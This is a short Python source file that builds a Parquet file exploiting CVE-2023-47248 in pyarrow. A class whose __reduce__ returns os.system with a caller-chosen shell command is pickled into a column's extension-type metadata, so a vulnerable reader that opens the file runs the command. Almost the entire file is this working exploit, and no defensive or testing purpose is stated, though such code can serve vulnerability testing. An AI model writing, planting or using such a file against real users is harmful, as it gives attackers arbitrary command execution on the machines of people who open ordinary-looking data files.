"""A Parquet list with an extension type whose unpickling runs a command (CVE-2023-47248).

It is written without pyarrow's own classes for such types, so that nothing is registered in the writing process.
"""

from __future__ import annotations

import os
import pickle
from collections.abc import Mapping, Sequence
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet


class Runs:
    """Unpickling runs a command."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple:
        return os.system, (self._command,)


def write(path: Path, columns: Mapping[str, Sequence[str]], typed: str, command: str) -> Path:
    """Write the list.

    Args:
        path: Path of the list.
        columns: Texts by column.
        typed: The column with the extension type.
        command: Shell command to run.
    """
    type_ = {
        b"ARROW:extension:name": b"arrow.py_extension_type",
        b"ARROW:extension:metadata": pickle.dumps(Runs(command)),
    }
    fields = [pa.field(name, pa.string(), metadata=type_ if name == typed else None) for name in columns]
    pyarrow.parquet.write_table(pa.table([pa.array(texts) for texts in columns.values()], pa.schema(fields)), path)
    return path
